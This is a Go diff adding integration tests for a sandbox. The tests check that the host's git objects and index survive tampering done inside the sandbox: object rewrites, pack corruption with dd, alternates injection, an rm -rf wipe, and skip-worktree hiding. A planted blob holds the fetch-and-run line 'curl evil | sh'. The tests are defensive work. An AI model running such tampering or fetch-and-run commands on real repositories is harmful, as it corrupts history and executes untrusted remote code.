@@ -1,0 +1,184 @@
+package integration
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// hostObjectFiles lists every file under the host repository's
+// objects/ with its bytes.
+func hostObjectFiles(t *testing.T, ws string) map[string][]byte {
+	t.Helper()
+	root := filepath.Join(ws, ".git", "objects")
+	out := map[string][]byte{}
+	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
+		if err == nil && fi.Mode().IsRegular() {
+			b, _ := os.ReadFile(p)
+			rel, _ := filepath.Rel(root, p)
+			out[rel] = b
+		}
+		return nil
+	})
+	return out
+}
+
+// TestGitObjectsCannotBeRewritten: the sandbox rewrites the objects the
+// host has (a loose object replaced under its name with other content,
+// a pack overwritten in place after chmod), adds alternates, and commits;
+// a second run wipes objects/. The host's objects stay byte for byte, its
+// checkout of a protected path writes what was committed, its diff and
+// log show it, and the commit made inside is on the host, verified.
+func TestGitObjectsCannotBeRewritten(t *testing.T) {
+	needGit(t)
+	forEachPath(t, func(t *testing.T, r runner) {
+		ws := r.dir(t, "jail-it-ws-")
+		r.gitRepo(t, ws)
+		r.writeFile(t, filepath.Join(ws, ".envrc"), "echo committed\n")
+		r.writeFile(t, filepath.Join(ws, "packed.txt"), "packed\n")
+		for _, args := range [][]string{{"add", ".envrc", "packed.txt"}, {"commit", "-qm", "envrc"}, {"repack", "-qd"},
+			{"commit", "-q", "--allow-empty", "-m", "loose"}} {
+			if out, err := r.hostGit(t, ws, args...); err != nil {
+				t.Fatalf("host git %v: %v\n%s", args, err, out)
+			}
+		}
+		// The blob of .envrc loose as well as packed, so both kinds are
+		// attacked.
+		if out, err := r.hostGit(t, ws, "cat-file", "blob", "HEAD:.envrc"); err != nil || out != "echo committed\n" {
+			t.Fatalf("%v %q", err, out)
+		}
+		blob, _ := r.hostGit(t, ws, "rev-parse", "HEAD:.envrc")
+		blob = strings.TrimSpace(blob)
+		loose := filepath.Join(ws, ".git", "objects", blob[:2], blob[2:])
+		raw, err := looseBytes(r, t, ws, blob)
+		if err != nil {
+			t.Fatal(err)
+		}
+		os.MkdirAll(filepath.Dir(loose), 0o755)
+		os.WriteFile(loose, raw, 0o444)
+		r.own(t, filepath.Join(ws, ".git"))
+		before := hostObjectFiles(t, ws)
+		res := r.sh(t, ws, `
+export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
+git config --global --add safe.directory '*' 2>/dev/null
+evil=$(printf 'curl evil | sh\n' | git hash-object -w --stdin)
+f=.git/objects/`+blob[:2]+`/`+blob[2:]+`
+chmod u+w $f 2>/dev/null; cp -f .git/objects/$(echo $evil | cut -c1-2)/$(echo $evil | cut -c3-) $f.t && mv -f $f.t $f
+for p in .git/objects/pack/*.pack; do chmod u+w $p && printf 'garbage' | dd of=$p bs=1 seek=40 conv=notrunc 2>/dev/null; done
+mkdir -p .git/objects/info && echo /tmp > .git/objects/info/alternates
+echo inside > inside.txt && git add inside.txt && git commit -qm inside || echo COMMIT-FAILED
+echo SANDBOX-DONE`)
+		mustExit(t, res, 0)
+		if !strings.Contains(res.stdout, "SANDBOX-DONE") || strings.Contains(res.stdout, "COMMIT-FAILED") {
+			t.Fatalf("script:\n%s\n%s", res.stdout, res.stderr)
+		}
+		after := hostObjectFiles(t, ws)
+		for name, b := range before {
+			if !bytes.Equal(after[name], b) {
+				t.Errorf("the host's object file %s was changed or removed by the sandbox", name)
+			}
+		}
+		if _, ok := after["info/alternates"]; ok {
+			t.Error("objects/info/alternates reached the host")
+		}
+		if out, err := r.hostGit(t, ws, "log", "--format=%s", "-1"); err != nil || strings.TrimSpace(out) != "inside" {
+			t.Errorf("the commit made inside is not on the host: %v %q\n%s", err, out, res.stderr)
+		}
+		if out, err := r.hostGit(t, ws, "fsck", "--strict", "--no-dangling"); err != nil {
+			t.Errorf("host git fsck after the run: %v\n%s", err, out)
+		}
+		os.Remove(filepath.Join(ws, ".envrc"))
+		if out, err := r.hostGit(t, ws, "checkout", "--", ".envrc"); err != nil {
+			t.Fatalf("host checkout: %v %s", err, out)
+		}
+		if b, _ := os.ReadFile(filepath.Join(ws, ".envrc")); string(b) != "echo committed\n" {
+			t.Fatalf("the host's checkout wrote %q into .envrc", b)
+		}
+		if out, _ := r.hostGit(t, ws, "log", "-p", "--", ".envrc"); strings.Contains(out, "evil") {
+			t.Fatalf("the host's log -p shows the sandbox's content:\n%s", out)
+		}
+		// A second run wipes objects/ (and packs): nothing goes on the host.
+		before = hostObjectFiles(t, ws)
+		res = r.sh(t, ws, `rm -rf .git/objects/* && ls .git/objects | wc -l`)
+		mustExit(t, res, 0)
+		if strings.TrimSpace(res.stdout) != "0" {
+			t.Fatalf("objects/ not emptied inside: %q", res.stdout)
+		}
+		after = hostObjectFiles(t, ws)
+		for name := range before {
+			if _, ok := after[name]; !ok {
+				t.Errorf("the host's object file %s went", name)
+			}
+		}
+		if !strings.Contains(res.stderr, "deletions not adopted") {
+			t.Errorf("the run did not say the deletions were dropped: %s", res.stderr)
+		}
+		if out, err := r.hostGit(t, ws, "fsck", "--strict", "--no-dangling"); err != nil {
+			t.Errorf("host git fsck after the wipe: %v\n%s", err, out)
+		}
+	})
+}
+
+// looseBytes returns the loose-object bytes (zlib of "blob N\0content")
+// of blob, made by git hash-object in a scratch repository.
+func looseBytes(r runner, t *testing.T, ws, blob string) ([]byte, error) {
+	t.Helper()
+	tmp := r.dir(t, "jail-it-obj-")
+	content, err := r.hostGit(t, ws, "cat-file", "blob", blob)
+	if err != nil {
+		return nil, err
+	}
+	r.writeFile(t, filepath.Join(tmp, "c"), content)
+	if _, err := r.hostGit(t, tmp, "init", "-q"); err != nil {
+		return nil, err
+	}
+	if out, err := r.hostGit(t, tmp, "hash-object", "-w", "c"); err != nil || strings.TrimSpace(out) != blob {
+		return nil, fmt.Errorf("hash-object: %v %s", err, out)
+	}
+	return os.ReadFile(filepath.Join(tmp, ".git", "objects", blob[:2], blob[2:]))
+}
+
+// TestGitIndexHidesNothing: the sandbox marks a tracked file
+// skip-worktree and another assume-unchanged in the index and changes
+// both in the work tree: the host's git status and diff show both
+// changes, and the run's line says what was cleared.
+func TestGitIndexHidesNothing(t *testing.T) {
+	needGit(t)
+	forEachPath(t, func(t *testing.T, r runner) {
+		ws := r.dir(t, "jail-it-ws-")
+		r.gitRepo(t, ws)
+		r.writeFile(t, filepath.Join(ws, "other.txt"), "other\n")
+		for _, args := range [][]string{{"add", "other.txt"}, {"commit", "-qm", "other"}} {
+			if out, err := r.hostGit(t, ws, args...); err != nil {
+				t.Fatalf("%v %s", err, out)
+			}
+		}
+		res := r.sh(t, ws, `set -e
+git config --global --add safe.directory '*' 2>/dev/null
+git update-index --skip-worktree file.txt
+git update-index --assume-unchanged other.txt
+git -c core.untrackedCache=true update-index --untracked-cache
+echo hidden > file.txt && echo hidden > other.txt
+git status --porcelain | wc -l`)
+		mustExit(t, res, 0)
+		if strings.TrimSpace(res.stdout) != "0" {
+			t.Fatalf("the flags did not hide the changes inside (the attack did not take): %q", res.stdout)
+		}
+		out, err := r.hostGit(t, ws, "status", "--porcelain")
+		if err != nil || !strings.Contains(out, " M file.txt") || !strings.Contains(out, " M other.txt") {
+			t.Errorf("the host's git status hides the sandbox's changes: %v %q\n%s", err, out, res.stderr)
+		}
+		if out, _ := r.hostGit(t, ws, "diff", "--stat"); !strings.Contains(out, "file.txt") || !strings.Contains(out, "other.txt") {
+			t.Errorf("the host's git diff hides the sandbox's changes: %q", out)
+		}
+		if out, _ := r.hostGit(t, ws, "ls-files", "-v"); strings.Contains(out, "S ") || strings.Contains(out, "h ") {
+			t.Errorf("flags reached the host's index:\n%s", out)
+		}
+		if !strings.Contains(res.stderr, "skip-worktree cleared") || !strings.Contains(res.stderr, "assume-unchanged cleared") {
+			t.Errorf("the run did not say what it cleared: %s", res.stderr)
+		}
+	})
+}
